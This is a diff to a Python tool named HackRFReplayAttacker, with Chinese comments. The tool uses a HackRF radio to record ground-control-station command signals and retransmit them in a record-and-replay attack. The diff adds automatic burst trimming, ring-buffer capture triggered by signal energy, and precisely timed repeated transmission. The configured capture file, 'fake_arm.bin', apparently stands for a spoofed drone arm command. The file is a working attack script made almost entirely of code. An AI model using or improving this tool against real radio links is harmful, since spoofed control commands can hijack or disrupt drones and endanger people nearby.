@@ -1,15 +1,34 @@
-import subprocess
 import time
 import os
 import sys
+import select
 import shutil
+import threading
+
+from hackrf.burst_detect import compose_repeated, find_bursts, trim_capture
+from hackrf.process_monitor import terminate_tracked
+from hackrf.ring_capture import RingCapture
+from hackrf_wrapper import HackRFCLI
+
+# 預先組合的發射檔上限，超過時改用 hackrf_transfer -R 重複發射
+MAX_COMPOSED_BYTES = 1024**3
 
 class HackRFReplayAttacker:
     """
     使用 HackRF 執行錄製-重放攻擊的類別。
     封裝了參數設定和 RX/TX 的執行邏輯。
     """
-    def __init__(self, max_freq, min_freq, sample_rate, rx_gain, tx_gain, duration, tx_count, filename):
+    def __init__(self, max_freq, min_freq, sample_rate, rx_gain, tx_gain, duration, tx_count, filename,
+                 auto_trim=False, guard_time=0.05, threshold_db=10.0, tx_gap=0.1, tx_mode="buffer",
+                 hackrf=None):
+        """
+        :param auto_trim: 錄製後自動偵測指令叢發，只重放叢發部分 (另存為 *_trimmed.bin)
+        :param guard_time: 裁剪時每個叢發前後保留的秒數
+        :param threshold_db: 叢發偵測門檻 (高於雜訊底的 dB 數)
+        :param tx_gap: 連續重放之間的間隔 (秒，以零樣本填充)
+        :param tx_mode: "buffer" 預先組合 tx_count 次重放為單一檔案；"repeat" 使用 hackrf_transfer -R
+        :param hackrf: 使用的 HackRFCLI (例如自 HackRFDevicePool 租借)，None 則使用預設裝置
+        """
         # 參數初始化 (Attributes)
         self.MAX_FREQ = str(max_freq)
         self.MIN_FREQ = str(min_freq)
@@ -20,11 +39,21 @@ class HackRFReplayAttacker:
         self.DURATION = str(duration)
         self.TX_COUNT = int(tx_count)
         self.FILENAME = filename
+        self.AUTO_TRIM = auto_trim
+        self.GUARD_TIME = float(guard_time)
+        self.THRESHOLD_DB = float(threshold_db)
+        # TX 實際重放的檔案 (裁剪後會改為 *_trimmed.bin)
+        self.REPLAY_FILE = filename
+        self.TX_GAP = float(tx_gap)
+        if tx_mode not in ("buffer", "repeat"):
+            raise ValueError("tx_mode 必須為 'buffer' 或 'repeat'。")
+        self.TX_MODE = tx_mode
+        self.hackrf = hackrf if hackrf is not None else HackRFCLI()
 
-        # 檢查 hackrf_transfer 是否存在
-        # 使用 shutil.which() 在系統 PATH 中查找指令
-        if shutil.which("hackrf_transfer") is None:
-             print("[FATAL ERROR] 找不到 'hackrf_transfer'。請確認 HackRF Tools 已安裝並在系統 PATH 中。")
+        # 檢查 hackrf_transfer 是否存在 (以實際使用的執行檔為準，可能為租借裝置或模擬後端的自訂路徑)
+        # 使用 shutil.which() 在系統 PATH 中查找指令 (也接受絕對路徑)
+        if shutil.which(self.hackrf.transfer_exec) is None:
+             print(f"[FATAL ERROR] 找不到 '{self.hackrf.transfer_exec}'。請確認 HackRF Tools 已安裝並在系統 PATH 中。")
              sys.exit(1)
 
         # 確保輸出檔案存在
@@ -39,58 +68,41 @@ class HackRFReplayAttacker:
         print("="*40)
 
 
-    def _build_command(self, mode):
-        """建構 HackRF 的指令列表"""
-        # 基礎指令: hackrf_transfer -f [FREQ] -s [SR] -a 1 (天線供電)
-        base_cmd = ["hackrf_transfer", "-f", self.FREQ, "-s", self.SAMPLE_RATE, "-a", "1"]
-
+    def _run_command(self, mode):
+        """以 HackRFCLI 執行 RX / TX 並等待結束 (由監控執行緒持續讀取輸出)"""
         if mode == "rx":
-            # -r: 錄製到檔案 | -l: LNA 增益 (接收)
-            # 使用 timeout 確保指令在設定時長後停止 (Linux/macOS)
-            cmd = ["timeout", self.DURATION] + base_cmd + ["-r", self.FILENAME, "-l", self.RX_GAIN]
+            # -n: 錄製固定樣本數後自行結束 (取代外部 timeout 指令)
+            num_samples = int(float(self.DURATION) * int(self.SAMPLE_RATE))
             print(f"[*] RX: 錄製 {self.DURATION} 秒 (錄製 GCS 指令)...")
+            started = self.hackrf.start_rx(
+                self.FILENAME, int(self.FREQ), sample_rate_hz=int(self.SAMPLE_RATE),
+                amp=True, lna_gain=int(self.RX_GAIN), num_samples=num_samples
+            )
         elif mode == "tx":
-            # -t: 從檔案發射 | -x: VGA 增益 (發射)
-            cmd = base_cmd + ["-t", self.FILENAME, "-x", self.TX_GAIN]
             print("[*] TX: 正在重放捕捉的數據...")
+            started = self.hackrf.start_tx(
+                self.REPLAY_FILE, int(self.FREQ), sample_rate_hz=int(self.SAMPLE_RATE),
+                amp=True, tx_gain=int(self.TX_GAIN)
+            )
         else:
             raise ValueError("指定的模式無效。請使用 'rx' 或 'tx'。")
-        
-        return cmd
 
-    def _run_command(self, mode):
-        """執行 HackRF 指令並處理錯誤"""
-        try:
-            cmd = self._build_command(mode)
-            process = subprocess.run(cmd, check=False, capture_output=True)
-            
-            # 處理非零返回碼，允許 timeout 結束 (返回碼 124)
-            if process.returncode != 0 and mode == "rx" and "No samples received" not in process.stderr.decode():
-                 if process.returncode != 124:
-                    print(f"[!] {mode.upper()} 執行錯誤 (Code: {process.returncode}):\n{process.stderr.decode()}")
-        
-        except FileNotFoundError:
-            # 即使在檢查了 PATH 之後，仍保留此錯誤處理
-            print("[FATAL ERROR] 找不到 'hackrf_transfer'。請確認 HackRF Tools 已安裝並在系統路徑中。")
+        if not started:
+            print("[FATAL ERROR] 無法啟動 'hackrf_transfer'。請確認 HackRF Tools 已安裝並在系統路徑中。")
             sys.exit(1)
 
+        returncode = self.hackrf.supervisor.wait()
+        output = "\n".join(line for _, line in self.hackrf.recent_output(20))
+        if returncode != 0 and "No samples received" not in output:
+            print(f"[!] {mode.upper()} 執行錯誤 (Code: {returncode}):\n{output}")
+        return returncode
+
     def cleanup_hackrf(self):
-            """嘗試終止所有與 hackrf_transfer 相關的程序。
-            確保在程式退出時關閉發射器。
+            """終止本物件啟動的 hackrf_transfer (以程序群組為單位)。
+            只影響自己的子程序，不會中斷同一台主機上其他裝置 / GUI 的任務。
             """
-            print("\n[--- CLEANUP ---] 正在嘗試終止所有 HackRF 相關程序...")
-            try:
-                # 適用於 Linux/macOS: 使用 pkill 終止所有 hackrf_transfer 進程
-                # 注意: 這會終止系統上所有用戶運行的 hackrf_transfer
-                subprocess.run(["pkill", "-f", "hackrf_transfer"], check=False, capture_output=True)
-                print("[V] HackRF 傳輸進程已終止。")
-            except FileNotFoundError:
-                # pkill 可能不存在 (例如某些精簡版環境)
-                print("[!] 無法使用 pkill 終止進程。請手動檢查 HackRF 是否停止發射。")
-                pass
-            except Exception as e:
-                print(f"[!] 清理過程中發生錯誤: {e}")
-                pass
+            if terminate_tracked(owner=self.hackrf):
+                print("\n[--- CLEANUP ---] 已終止本次啟動的 HackRF 程序。")
 
     def record_capture(self):
         """執行 RX 捕捉"""
@@ -100,9 +112,89 @@ class HackRFReplayAttacker:
             print("[V] RX 捕捉完成。")
         except KeyboardInterrupt:
             print("\n[!] 捕捉被使用者中斷。退出程式。")
+            return
         finally:
             self.cleanup_hackrf()
 
+        if self.AUTO_TRIM:
+            self.trim_capture()
+
+    def record_continuous(self, pre_s=5.0, post_s=2.0, trigger_db=10.0, max_files=20):
+        """
+        連續錄製到記憶體環形緩衝區，能量觸發或按下 Enter 時擷取觸發前 pre_s + 觸發後 post_s 秒
+        不需配合固定錄製時長操作 GCS；擷取完成後以快照作為錄製檔 (FILENAME)
+        :param trigger_db: 能量觸發門檻 (高於雜訊底的 dB 數)，None 則只接受手動擷取
+        :return: str (快照檔路徑) 或 None (使用者中斷)
+        """
+        output_dir = os.path.join(os.path.dirname(os.path.abspath(self.FILENAME)), "captures")
+        ring = RingCapture(int(self.SAMPLE_RATE), output_dir, pre_s=pre_s, post_s=post_s,
+                           trigger_db=trigger_db, max_files=max_files)
+
+        print("\n--- 開始連續 RX 錄製 (環形緩衝) ---")
+        print(f"[*] 保留觸發前 {pre_s} 秒 / 觸發後 {post_s} 秒；請在 GCS 上發送指令，或按 Enter 手動擷取")
+        if not ring.start(self.hackrf, int(self.FREQ), amp=True, lna_gain=int(self.RX_GAIN)):
+            return None
+
+        stop = threading.Event()
+
+        def _operator():
+            # 以 select 輪詢 stdin，函式返回時可停止 (input() 會一直阻塞到下一次 Enter)
+            while not stop.is_set():
+                try:
+                    ready, _, _ = select.select([sys.stdin], [], [], 0.2)
+                    if ready and not sys.stdin.readline():
+                        return  # EOF
+                except (OSError, ValueError, TypeError):
+                    return  # stdin 已關閉或不支援 select
+                if ready:
+                    ring.snapshot()
+
+        operator = threading.Thread(target=_operator, name="ring-capture-operator", daemon=True)
+        operator.start()
+
+        path = None
+        baseline = ring.capture_count
+        try:
+            while path is None and self.hackrf.is_running():
+                path = ring.wait_capture(timeout=0.5, after=baseline)
+        except KeyboardInterrupt:
+            print("\n[!] 錄製被使用者中斷。")
+        finally:
+            self.hackrf.stop()
+            stop.set()
+            operator.join()
+
+        if path is None:
+            return None
+        self.FILENAME = path
+        self.REPLAY_FILE = path
+        if self.AUTO_TRIM:
+            self.trim_capture()
+        return path
+
+    def trim_capture(self):
+        """偵測錄製檔中的指令叢發，只保留叢發 (含保護時間) 作為重放檔"""
+        sample_rate = int(self.SAMPLE_RATE)
+        bursts = find_bursts(self.FILENAME, sample_rate, threshold_db=self.THRESHOLD_DB)
+        if not bursts:
+            print(f"[!] 未偵測到高於雜訊底 {self.THRESHOLD_DB} dB 的叢發，將重放完整錄製檔。")
+            self.REPLAY_FILE = self.FILENAME
+            return False
+
+        root, ext = os.path.splitext(self.FILENAME)
+        trimmed = f"{root}_trimmed{ext or '.bin'}"
+        result = trim_capture(self.FILENAME, trimmed, bursts, sample_rate, guard_s=self.GUARD_TIME)
+        self.REPLAY_FILE = trimmed
+
+        print(f"[V] 偵測到 {len(bursts)} 個叢發，裁剪為 {len(result['segments'])} 段:")
+        for s, e in result["segments"]:
+            print(f"    - {s / sample_rate:8.3f}s ~ {e / sample_rate:8.3f}s ({(e - s) / sample_rate * 1000:.1f} ms)")
+        print(
+            f"[V] 重放檔: {trimmed} "
+            f"({result['input_bytes'] / 1024**2:.1f} MB -> {result['output_bytes'] / 1024**2:.2f} MB)"
+        )
+        return True
+
 
     def run_replay(self):
         """執行單次 TX 重放"""
@@ -116,6 +208,106 @@ class HackRFReplayAttacker:
             self.cleanup_hackrf()
 
 
+    def _prepare_tx_buffer(self, repetitions):
+        """
+        (內部方法) 準備單一程序重放用的發射檔
+        :return: tuple (發射檔, 是否使用 -R, 每次重放的起始樣本 list, 單次重放樣本數)
+        """
+        sample_rate = int(self.SAMPLE_RATE)
+        gap_samples = int(round(self.TX_GAP * sample_rate))
+        burst_samples = os.path.getsize(self.REPLAY_FILE) // 2
+        period = burst_samples + gap_samples
+
+        root, ext = os.path.splitext(self.REPLAY_FILE)
+        ext = ext or ".bin"
+        composed_bytes = (period * repetitions - gap_samples) * 2
+        repeat = self.TX_MODE == "repeat" or composed_bytes > MAX_COMPOSED_BYTES
+
+        if repeat:
+            # -R 會無間隔地重頭播放，因此在檔尾補上間隔
+            tx_file, count, expected = f"{root}_gap{ext}", 1, period * 2
+        else:
+            tx_file, count, expected = f"{root}_x{repetitions}{ext}", repetitions, composed_bytes
+
+        # 重放檔未變更時沿用上一輪組合好的發射檔
+        up_to_date = (
+            os.path.exists(tx_file)
+            and os.path.getsize(tx_file) == expected
+            and os.path.getmtime(tx_file) >= os.path.getmtime(self.REPLAY_FILE)
+        )
+        if not up_to_date:
+            compose_repeated(self.REPLAY_FILE, tx_file, count, gap_samples, trailing_gap=repeat)
+
+        starts = [k * period for k in range(repetitions)]
+        return tx_file, repeat, starts, burst_samples
+
+    def replay_repeated(self, repetitions=None):
+        """
+        以單一 hackrf_transfer 程序連續重放 repetitions 次 (預設 TX_COUNT)
+        重放之間以零樣本精確間隔，不需每次重新開啟 USB / 調諧
+        :return: bool (是否完成)
+        """
+        repetitions = int(repetitions or self.TX_COUNT)
+        sample_rate = int(self.SAMPLE_RATE)
+        tx_file, repeat, starts, burst_samples = self._prepare_tx_buffer(repetitions)
+
+        print(f"[*] TX 排程: {repetitions} 次 x {burst_samples / sample_rate * 1000:.1f} ms，"
+              f"間隔 {self.TX_GAP * 1000:.1f} ms ({'-R 重複模式' if repeat else '單一組合檔'})")
+        for k, start in enumerate(starts):
+            print(f"    - 第 {k + 1} 次: t = {start / sample_rate:.4f} s")
+
+        if not self.hackrf.start_tx(
+            filename=tx_file,
+            freq_hz=int(self.FREQ),
+            sample_rate_hz=sample_rate,
+            amp=True,
+            tx_gain=int(self.TX_GAIN),
+            repeat=repeat
+        ):
+            return False
+
+        supervisor = self.hackrf.supervisor
+        t_start = time.monotonic()
+        end_bytes = [(start + burst_samples) * 2 for start in starts]
+        total_s = (starts[-1] + burst_samples) / sample_rate
+        logged = [0]
+        tx_t0 = []
+        streaming = threading.Event()
+
+        def _log_progress(metrics):
+            # hackrf_transfer 的 "MiB" 為 bytes / 1e6；每秒回報一次，只用來記錄進度
+            sent = metrics["total_mib"] * 1e6
+            if not tx_t0:
+                # 由第一筆統計回推開始送出樣本的時間，作為排程計時的起點
+                tx_t0.append(time.monotonic() - sent / 2 / sample_rate)
+                streaming.set()
+            while logged[0] < repetitions and sent >= end_bytes[logged[0]]:
+                logged[0] += 1
+                print(f"[TX] 第 {logged[0]}/{repetitions} 次重放已送出 "
+                      f"(經過 {time.monotonic() - t_start:.2f} s, underrun {metrics['underruns']})")
+
+        supervisor.subscribe(_log_progress)
+        all_sent = True
+        if repeat:
+            # -R 模式不會自行結束：自開始送出樣本起計時，排程的最後一次送完即停止
+            all_sent = False
+            if streaming.wait(timeout=5.0):
+                remaining = tx_t0[0] + total_s - time.monotonic()
+                all_sent = supervisor.wait(timeout=max(0.0, remaining)) is None
+            self.hackrf.stop()
+        supervisor.wait()
+
+        elapsed = time.monotonic() - t_start
+        if not all_sent or (supervisor.returncode not in (0, None) and not repeat):
+            reason = "未在排程時間內送完" if not all_sent else f"Code: {supervisor.returncode}"
+            print(f"[!] TX 執行錯誤 ({reason}):")
+            for _, line in self.hackrf.recent_output(10):
+                print(f"    {line}")
+            return False
+        print(f"[V] {repetitions} 次重放完成，耗時 {elapsed:.2f} s "
+              f"({repetitions / elapsed:.2f} 次/秒)")
+        return True
+
     def run_attack_cycle(self):
         """執行 RX-TX 主迴圈"""
         print("\n--- 開始自動化重放攻擊迴圈 ---")
@@ -135,10 +327,8 @@ class HackRFReplayAttacker:
                 
                 # 步驟 2: 執行發射 (TX)
                 print("-"*20)
-                # 迴圈發射捕捉到的訊包
-                for i in range(self.TX_COUNT):
-                    print(f"重放嘗試 {i+1}/{self.TX_COUNT}...")
-                    self._run_command("tx")
+                # 以單一 hackrf_transfer 程序連續重放 TX_COUNT 次
+                self.replay_repeated(self.TX_COUNT)
                 
                 print(f"[V] 迴圈完成。等待 2 秒後進行下一輪捕捉...")
                 time.sleep(2) # 等待 2 秒
@@ -148,7 +338,7 @@ class HackRFReplayAttacker:
                 break
             
             finally:
-                self.cleanup_hackrf()
+                self.hackrf.stop()
 
 # =======================================================
 # --- 運行區塊 ---
@@ -168,7 +358,9 @@ if __name__ == "__main__":
         "tx_gain": 47,              # 發射 VGA 增益 (請根據 PA 安全調整!)
         "duration": 30,              # 每次捕捉時長 (秒)
         "tx_count": 5,              # 每次捕捉後重放次數
-        "filename": "fake_arm.bin"
+        "filename": "fake_arm.bin",
+        "auto_trim": True,          # 錄製後只保留指令叢發
+        "guard_time": 0.05,         # 叢發前後保留秒數
         # "filename": "hackrf_capture.bin"
     }
 